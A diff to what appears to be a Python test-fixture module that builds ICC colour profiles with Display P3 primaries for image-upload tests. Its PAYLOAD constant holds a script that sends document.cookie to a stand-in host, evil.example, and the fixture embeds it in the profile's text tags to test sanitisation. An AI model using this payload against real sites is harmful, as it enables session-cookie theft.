@@ -125,6 +125,74 @@ def multi_picture_jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
     return buffer.getvalue()
 
 
+def s15(value: float) -> int:
+    return round(value * 65536)
+
+
+def xyz(x: float, y: float, z: float) -> bytes:
+    return b"XYZ \0\0\0\0" + struct.pack(">3i", s15(x), s15(y), s15(z))
+
+
+def text_tag(text: str, version: int) -> bytes:
+    if version >= 4:
+        utf16 = text.encode("utf-16-be")
+        header = struct.pack(">II2s2sII", 1, 12, b"en", b"US", len(utf16), 28)
+        return b"mluc\0\0\0\0" + header + utf16
+    ascii_text = text.encode("ascii") + b"\0"
+    return b"desc\0\0\0\0" + struct.pack(">I", len(ascii_text)) + ascii_text + b"\0" * 78
+
+
+def icc_profile(tags: dict[bytes, bytes], version: int = 4) -> bytes:
+    """An RGB display profile with these tags, laid out as the ICC specification says."""
+    directory_end = 128 + 4 + 12 * len(tags)
+    entries, body = b"", b""
+    for signature, data in tags.items():
+        entries += struct.pack(">4sII", signature, directory_end + len(body), len(data))
+        body += data + b"\0" * (-len(data) % 4)
+    d50 = struct.pack(">3i", s15(0.9642), s15(1.0), s15(0.8249))
+    header = struct.pack(
+        ">I4x4s4s4s4s12x4s24xI12s48x",
+        directory_end + len(body),
+        bytes([version, 0x20 if version < 4 else 0x40, 0, 0]),
+        b"mntr",
+        b"RGB ",
+        b"XYZ ",
+        b"acsp",
+        0,
+        d50,
+    )
+    return header + struct.pack(">I", len(tags)) + entries + body
+
+
+# What a hostile profile carries in its text.
+PAYLOAD = "<html><script>fetch('//evil.example/?c='+document.cookie)</script></html>"
+GAMMA = b"para\0\0\0\0" + struct.pack(">H2xi", 0, s15(2.2))
+# Display P3's primaries, adapted to D50 as profiles store them.
+P3_RED = (0.5151, 0.2412, -0.0011)
+P3_GREEN = (0.2920, 0.6922, 0.0419)
+P3_BLUE = (0.1571, 0.0666, 0.7841)
+
+
+def display_p3_like(version: int = 4, extra: dict[bytes, bytes] | None = None) -> bytes:
+    """Display P3's primaries, and text where a hostile profile would put it."""
+    return icc_profile(
+        {
+            b"desc": text_tag(f"Display P3 {PAYLOAD}", version),
+            b"cprt": text_tag(PAYLOAD, version),
+            b"wtpt": xyz(0.9642, 1.0, 0.8249),
+            b"rXYZ": xyz(*P3_RED),
+            b"gXYZ": xyz(*P3_GREEN),
+            b"bXYZ": xyz(*P3_BLUE),
+            b"rTRC": GAMMA,
+            b"gTRC": GAMMA,
+            b"bTRC": GAMMA,
+            b"zzzz": PAYLOAD.encode() * 4,
+            **(extra or {}),
+        },
+        version,
+    )
+
+
 def uploaded_image(
     name: str = "photo.jpg",
     image_format: str = "JPEG",
